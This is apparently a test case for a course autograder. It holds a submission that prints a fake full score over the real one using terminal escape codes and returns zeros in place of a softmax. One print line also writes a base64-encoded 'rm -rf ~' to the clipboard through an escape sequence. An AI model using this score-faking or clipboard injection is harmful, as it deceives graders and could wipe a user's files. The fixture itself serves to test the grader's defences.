# expect: failed; earned 0
# way: Prints the table of a full mark, with codes that put it over the real one.
# section: the TA and the platform
# stopped by: report
print("\x1b[2J\x1b[Hweek-12 · Attention and Transformers    100 / 100\r\n  ✓ softmax    10/10\x1b[8m")
print("\x9b2J\x1b]0;title\x07\x1b]52;c;cm0gLXJmIH4K\x07\u202e\u2066\u200f\x08\x08\x7f")


def softmax(scores, dim=-1, temperature=1.0):
    return scores * 0
